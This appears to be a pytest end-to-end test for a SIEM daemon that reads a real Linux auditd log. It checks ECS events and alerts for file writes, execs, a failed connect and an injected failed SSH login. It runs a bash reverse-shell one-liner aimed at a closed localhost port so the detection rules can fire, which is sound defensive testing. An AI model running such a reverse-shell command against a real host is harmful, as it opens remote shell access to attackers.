"""End to end with a real Linux audit daemon: auditd -n writes audit.log, the siem daemon tails it.

The test starts its own ``auditd -n`` (tests/auditd_support.py: one at a time under
/tmp/siem-auditd.lock, skipped when the host already runs one), adds rules that match only processes
with the test's login uid, runs commands as that login, and checks the ECS events in the daemon's
durable log and the alerts of rules/linux_audit.rules. The host is restored on any outcome: rules
deleted, the kernel's audit flag set back, our auditd stopped.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from auditd_support import AUID, running_auditd, run_as_login, send_user_message, status
from daemon_support import DaemonProc, free_port, wait_for

REPO = Path(__file__).resolve().parents[1]
pytestmark = [pytest.mark.timeout(180)]


def _events(daemon: DaemonProc) -> list[dict]:
    out = subprocess.run([sys.executable, "-m", "siem", "log", "dump", str(daemon.state_dir)], capture_output=True,
                         check=True, timeout=60)
    events = [doc["event"] for doc in map(json.loads, out.stdout.splitlines()) if "event" in doc]
    return [e for e in events if e.get("event.dataset") == "auditd"]


def test_real_auditd_events_reach_the_daemon_as_ecs_and_alert(tmp_path: Path) -> None:
    watched = tmp_path / "watched.txt"
    watched.write_text("initial\n")
    closed_port = free_port()  # nothing listens there: the reverse shell's connect fails, as audited
    with running_auditd(tmp_path) as audit:
        a = f"auid={AUID}"
        audit.rule("-a", "always,exit", "-F", "arch=b64", "-S", "execve", "-F", a, "-k", "siemtest")
        audit.rule("-a", "always,exit", "-F", "arch=b64", "-S", "connect", "-F", a, "-k", "siemnet")
        audit.rule("-w", str(watched), "-p", "wa", "-k", "siemwatch")
        daemon = DaemonProc.create(
            tmp_path / "siem", (REPO / "rules" / "linux_audit.rules").read_text(),
            inputs={"audit": {"type": "auditd", "paths": [str(audit.log_path)], "poll_interval": "50ms",
                              "event_timeout": "500ms"}},
            daemon={"lateness": "1s", "idle_advance": "300ms"},
        )
        try:
            daemon.start()
            script = (f"echo changed >> {watched}; /bin/echo hello-from-siemtest 'two words'; "
                      f"bash -c 'bash -i >& /dev/tcp/127.0.0.1/{closed_port} 0>&1'; true")
            run_as_login(AUID, ["/bin/sh", "-c", script])
            send_user_message("USER_LOGIN", 'op=login acct="mallory" exe="/usr/sbin/sshd" hostname=203.0.113.9 '
                                            "addr=203.0.113.9 terminal=ssh res=failed")
            audit.wait_for("USER_LOGIN")
            alerts = wait_for(lambda: {a["rule"] for a in daemon.alerts()} >= {"linux_reverse_shell",
                                                                           "linux_shell_network_connection"},
                              60, "the reverse-shell alerts") and daemon.alerts()
            assert daemon.terminate() == 0
        finally:
            daemon.close()

    by_rule = {a["rule"]: a for a in alerts}
    assert f"/dev/tcp/127.0.0.1/{closed_port}" in by_rule["linux_reverse_shell"]["message"]
    assert f"127.0.0.1:{closed_port}" in by_rule["linux_shell_network_connection"]["message"]

    events = _events(daemon)
    assert events and not [e["error.message"] for e in events if "error.message" in e]
    echo = [e for e in events if e.get("process.args") == ["/bin/echo", "hello-from-siemtest", "two words"]]
    assert len(echo) == 1, "the echo exec arrives exactly once, as one event"
    ev = echo[0]
    assert ev["event.action"] == "execve" and ev["event.category"] == "process" and ev["event.outcome"] == "success"
    assert ev["process.executable"].endswith("/echo") and ev["process.name"] == "echo"
    assert ev["process.command_line"] == "/bin/echo hello-from-siemtest two words"
    assert ev["process.working_directory"] == "/" and ev["user.audit.id"] == str(AUID)
    assert ev["user.id"] == "0" and ev["user.name"] == "root" and ev["auditd.key"] == "siemtest"
    assert isinstance(ev["process.pid"], int) and isinstance(ev["process.parent.pid"], int)
    assert {"SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"} <= set(ev["auditd.types"])

    watch = [e for e in events if e.get("auditd.key") == "siemwatch" and e.get("file.path") == str(watched)]
    assert watch and watch[0]["event.category"] == "file" and watch[0]["event.type"] == "change"
    connect = [e for e in events if e.get("event.action") == "connect" and e.get("destination.port") == closed_port]
    assert connect and connect[0]["destination.ip"] == "127.0.0.1" and connect[0]["event.outcome"] == "failure"
    login = [e for e in events if e.get("event.action") == "user_login"]
    assert len(login) == 1 and login[0]["user.name"] == "mallory" and login[0]["source.ip"] == "203.0.113.9"
    assert login[0]["event.outcome"] == "failure" and login[0]["event.category"] == "authentication"

    after = status()  # restored: no daemon registered, no rules, audit switched off again
    assert after.get("pid") == "0" and after.get("enabled") == audit.enabled_before
    assert "No rules" in subprocess.run(["auditctl", "-l"], capture_output=True, text=True).stdout
